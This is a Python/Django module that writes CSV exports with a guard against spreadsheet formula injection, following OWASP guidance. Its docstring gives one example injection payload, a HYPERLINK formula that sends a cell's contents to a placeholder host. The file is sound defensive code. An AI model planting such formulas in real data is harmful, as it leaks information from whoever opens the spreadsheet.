"""The one CSV writer of the app: every export streams through `csv_response`.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets, Numbers) opening a CSV runs any cell that begins with
`=`, `+`, `-` or `@` as a formula, so a name typed on a public RSVP form such as `=HYPERLINK("http://x/"&A2)`
would run on the computer of whoever opens the export. Following OWASP's CSV injection guidance, `cell()` writes
a text cell with a leading apostrophe (which spreadsheets read as "this is text") when, and only when:

- its first character is `=` `+` `-` `@`, a tab, a carriage return, a line feed or NUL; or
- its first character after leading whitespace is `=` `+` `-` `@` (some programs trim leading spaces);

and it is not a plain number: an optional sign, ASCII digits and at most one decimal point (`-12`, `+3.5`,
`-0.25`). A valid E.164 phone (`+17735550142`) is such a number and is written as it is: a sign and digits
cannot call anything. Every other cell is written unchanged: empty cells stay empty, text that starts with a
letter or a digit is never touched. Python numbers, dates and booleans are written as they are; `None` is an
empty cell; anything else (a name, a lazy translation, a phone number object) is turned into text first and
guarded like text.

Every field is quoted (OWASP: wrap each cell in double quotes, double the quotes inside), so a comma,
semicolon, quote or line break in a value cannot start a new cell whose first character escapes the guard.
Files are UTF-8 with a byte-order mark, which Excel needs to read Spanish names (ñ, á) right, and are streamed
row by row from the selector's `.iterator()`, so an export of the whole state never sits in memory.
"""

from __future__ import annotations

import csv
import datetime
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse
from django.utils.http import content_disposition_header

BOM = "\ufeff"
FORMULA_START = frozenset("=+-@\t\r\n\0")
FORMULA_START_AFTER_SPACE = frozenset("=+-@")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)", re.ASCII)


def cell(value: Any) -> Any:
    """One value as the writer puts it in a cell, with the formula guard applied to text (see above)."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    if not text or PLAIN_NUMBER.fullmatch(text):
        return text
    stripped = text.lstrip()
    if text[0] in FORMULA_START or (stripped and stripped[0] in FORMULA_START_AFTER_SPACE):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write returns the line, so csv.writer produces lines one at a time."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The lines of a CSV file: the byte-order mark with the header, then one line per row, every cell guarded."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    yield BOM + writer.writerow([cell(value) for value in header])
    for row in rows:
        yield writer.writerow([cell(value) for value in row])


def csv_response(*, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A download of `rows` (any iterable, read lazily while the response is sent) under `header`."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename) or "attachment"
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
